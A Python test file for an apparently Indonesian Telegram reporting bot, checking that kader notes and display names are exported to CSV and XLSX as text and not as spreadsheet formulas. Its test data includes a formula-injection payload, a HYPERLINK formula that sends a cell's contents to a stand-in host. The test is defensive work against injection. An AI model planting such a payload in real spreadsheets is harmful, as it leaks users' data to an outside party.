"""No cell the bot writes from user text is ever a spreadsheet formula (DESIGN section 5).

A kader's free text (a catatan) and a Telegram display name reach the export and the
ketua's recap spreadsheet; read back with openpyxl, each must be a string cell.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from bot.cli import main
from tests.bot.test_telegram import GetRuntime, register
from tests.fakes.botapi import FakeBotApi

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"klik")'
NAME = "=1+2"


def _cells(sheet: Worksheet, text: str) -> list[tuple[object, str]]:
    """(value, openpyxl data type) of every cell holding `text`, formula or not."""
    return [
        (cell.value, cell.data_type)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.lstrip("'") == text
    ]


def test_export_writes_text_that_looks_like_a_formula_as_text(
    config_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ("--config", str(config_path))
    invite_args = [
        "invite",
        "--role",
        "kader",
        "--kampung",
        "sukamaju",
        "--unit",
        "posyandu-melati",
    ]
    assert main([*args, *invite_args]) == 0
    invite = capsys.readouterr().out.split()[0]
    answers = [f"/start {invite}", "1", "hari ini", "50", "48", "45", "40"]
    answers += ["lewati", "lewati", "lewati", "lewati", "1", "6", "5", FORMULA, "1"]
    chat = subprocess.run(
        [sys.executable, "-m", "bot", "chat", *args, "--user", NAME],
        input="\n".join(answers) + "\n",
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert "Tersimpan ✅" in chat.stdout
    month = datetime.now(ZoneInfo("Asia/Jakarta")).strftime("%Y-%m")  # "hari ini" there

    assert main([*args, "export", "--month", month]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    values = {row["field"]: row["value"] for row in rows}
    assert values["catatan"] == "'" + FORMULA, "a CSV cell starting with = is neutralised"
    assert values["s"] == "50", "numbers stay numbers"
    assert {row["reported_by"] for row in rows} == {"'" + NAME}

    out = tmp_path / "laporan.xlsx"
    assert main([*args, "export", "--month", month, "--format", "xlsx", "--out", str(out)]) == 0
    sheet = openpyxl.load_workbook(out).active
    assert isinstance(sheet, Worksheet)
    assert _cells(sheet, FORMULA) == [(FORMULA, "s")], "the catatan is a string, not a formula"
    assert set(_cells(sheet, NAME)) == {(NAME, "s")}
    table = list(sheet.iter_rows(values_only=True))
    assert ("s", 50) in [(row[5], row[6]) for row in table]


async def test_recap_spreadsheet_writes_a_display_name_as_text(
    telegram: GetRuntime, bot_api: FakeBotApi
) -> None:
    runtime = telegram()
    await register(bot_api, runtime, 41, name=FORMULA)  # a kader who has not reported yet
    ketua = await register(bot_api, runtime, 42, role="ketua", unit=None)
    sent = await ketua.say_expecting("/rekap", 3)
    [document] = [s for s in sent if s.kind == "document"]
    book = openpyxl.load_workbook(io.BytesIO(document.file_data))
    missing = book["Belum lapor"]
    assert _cells(missing, FORMULA) == [(FORMULA, "s")]
